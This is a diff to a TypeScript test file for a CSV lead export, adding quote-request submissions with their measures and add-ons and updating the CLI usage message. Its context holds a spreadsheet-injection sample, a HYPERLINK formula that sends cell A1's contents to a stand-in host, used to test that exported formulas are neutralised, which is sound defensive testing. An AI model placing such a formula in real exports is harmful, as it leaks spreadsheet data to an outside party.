@@ -14,6 +14,7 @@ import { solvedCaptcha } from '../test/altcha.js';
 import { buildTestApi, type TestApi } from '../test/api.js';
 import { createTestDataDir, TEST_DRIVER } from '../test/database.js';
 import { parseCsvRecords } from '../test/parse-csv.js';
+import { quoteRequest } from '../test/submissions.js';
 import { writeLeadsCsv } from './csv.js';
 
 const FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
@@ -21,7 +22,8 @@ const TRICKY_MESSAGE = 'We run 40 trucks, all "BS-VI",\nout of Surat and Vapi;\n
 
 describe('the lead export on submissions stored through the API', () => {
   let api: TestApi;
-  const ids: Record<'vendor' | 'partnerBefore' | 'partnerOnDay' | 'contact' | 'newsletter', number> = {
+  const ids: Record<'vendor' | 'partnerBefore' | 'partnerOnDay' | 'contact' | 'newsletter' | 'quote', number> = {
+    quote: 0,
     vendor: 0,
     partnerBefore: 0,
     partnerOnDay: 0,
@@ -83,6 +85,7 @@ describe('the lead export on submissions stored through the API', () => {
       message: 'Part load, weekly.',
     });
     ids.newsletter = await store('/api/store/newsletter', { email: 'reader@example.in' });
+    ids.quote = await store('/api/store/quote', quoteRequest({ service: 'Warehousing' }));
 
     // The last moment of 14 January and the first of 15 January 2026 in India (UTC+05:30).
     const db = api.database.db;
@@ -126,6 +129,29 @@ describe('the lead export on submissions stored through the API', () => {
       [String(ids.partnerBefore), 'Register Warehouse'],
       [String(ids.partnerOnDay), 'Franchise partner'],
     ]);
+  });
+
+  it('exports quote requests with their measures, add-ons and the service named', async () => {
+    const quotes = await exportCsv('quote');
+    expect(quotes.count).toBe(1);
+    expect(quotes.records[0]).toMatchObject({
+      id: String(ids.quote),
+      name: 'Meera Shah',
+      phone: '9825012345',
+      service: 'Warehousing',
+      freight_type: 'Road',
+      departure_city: 'Ahmedabad',
+      delivery_city: 'Kolkata',
+      incoterms: 'DAP',
+      weight_kg: '1250',
+      height_cm: '120',
+      width_cm: '100',
+      length_cm: '240',
+      fragile: 'yes',
+      express_delivery: 'no',
+      insurance: 'yes',
+      packaging: 'no',
+    });
   });
 
   it('neutralises formulas and keeps commas, quotes and line breaks', async () => {
@@ -200,7 +226,7 @@ describe.runIf(TEST_DRIVER === 'pglite')('npm run leads', () => {
       const { code, stdout, stderr } = await runCli(args, { DATA_DIR: dataDir });
       expect(code).toBe(2);
       expect(stdout).toBe('');
-      expect(stderr).toContain('Usage: npm run -s leads -- --kind <partner|vendor|contact|newsletter> [--since YYYY-MM-DD]');
+      expect(stderr).toContain('Usage: npm run -s leads -- --kind <partner|vendor|contact|newsletter|quote> [--since YYYY-MM-DD]');
       expect(stderr).not.toMatch(/\n\s+at /);
     },
   );
